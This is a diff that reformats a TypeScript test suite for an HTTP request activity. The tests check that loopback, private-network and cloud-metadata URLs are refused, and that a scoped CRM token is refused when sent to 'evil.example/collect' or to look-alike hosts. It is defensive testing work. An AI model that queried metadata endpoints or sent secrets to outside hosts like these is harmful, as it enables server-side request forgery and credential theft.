@@ -7,7 +7,13 @@ describe('httpRequest: checks before any network', () => {
   const http = createHttpActivities({ secrets: createEnvSecretResolver({ CAUCE_SECRET_CRM_TOKEN: 'tok-123456' }) });
 
   it('refuses loopback, private and metadata URLs non-retryably', async () => {
-    for (const url of ['http://127.0.0.1:1/x', 'http://localhost/x', 'http://192.168.0.1/', 'http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/']) {
+    for (const url of [
+      'http://127.0.0.1:1/x',
+      'http://localhost/x',
+      'http://192.168.0.1/',
+      'http://169.254.169.254/latest/meta-data/',
+      'http://metadata.google.internal/',
+    ]) {
       await expect(http.httpRequest({ ctx, method: 'GET', url })).rejects.toMatchObject({ nonRetryable: true, type: 'HttpUrlRefused' });
     }
   });
@@ -24,7 +30,10 @@ describe('httpRequest: checks before any network', () => {
 
   it('sends a secret only to its allowed hosts (and flows); missing and refused read the same', async () => {
     const secrets = createEnvSecretResolver({ CAUCE_SECRET_CRM_TOKEN: 'tok-123456', CAUCE_SECRET_HOSTS_CRM_TOKEN: 'api.crm.example, *.crm.example:8443' });
-    expect(await secrets.getScoped('crm-token')).toEqual({ value: 'tok-123456', scope: { allowedHosts: ['api.crm.example', '*.crm.example:8443'], flowIds: null, roles: null } });
+    expect(await secrets.getScoped('crm-token')).toEqual({
+      value: 'tok-123456',
+      scope: { allowedHosts: ['api.crm.example', '*.crm.example:8443'], flowIds: null, roles: null },
+    });
     const scoped = createHttpActivities({ secrets });
     const failure = async (url: string, secret: string) => {
       try {
@@ -37,14 +46,18 @@ describe('httpRequest: checks before any network', () => {
     const refused = await failure('https://evil.example/collect', 'crm-token');
     const missing = await failure('https://evil.example/collect', 'no-such-secret');
     expect(refused).toMatchObject({ type: 'SecretNotAvailable', nonRetryable: true });
-    expect(refused.message).toBe('httpRequest: secret "crm-token" is not available for host evil.example: an admin must allow that host (and this flow, if the secret is limited to some) in the secret\'s allowedHosts (PATCH /api/secrets/crm-token)');
+    expect(refused.message).toBe(
+      'httpRequest: secret "crm-token" is not available for host evil.example: an admin must allow that host (and this flow, if the secret is limited to some) in the secret\'s allowedHosts (PATCH /api/secrets/crm-token)',
+    );
     expect(missing.message).toBe(refused.message.replace(/crm-token/g, 'no-such-secret'));
     // Another port of an allowed host, a look-alike host: refused the same way.
     expect((await failure('https://api.crm.example:9443/x', 'crm-token')).type).toBe('SecretNotAvailable');
     expect((await failure('https://api.crm.example.evil.example/x', 'crm-token')).type).toBe('SecretNotAvailable');
     // A secret without allowed hosts (the environment variable unset) goes nowhere.
     const unscoped = createHttpActivities({ secrets: createEnvSecretResolver({ CAUCE_SECRET_CRM_TOKEN: 'tok-123456' }) });
-    await expect(unscoped.httpRequest({ ctx, method: 'GET', url: 'https://api.crm.example/', secretHeaders: { Authorization: 'crm-token' } })).rejects.toMatchObject({ type: 'SecretNotAvailable' });
+    await expect(
+      unscoped.httpRequest({ ctx, method: 'GET', url: 'https://api.crm.example/', secretHeaders: { Authorization: 'crm-token' } }),
+    ).rejects.toMatchObject({ type: 'SecretNotAvailable' });
   });
 
   it('resolves secrets from CAUCE_SECRET_<NAME> only', async () => {
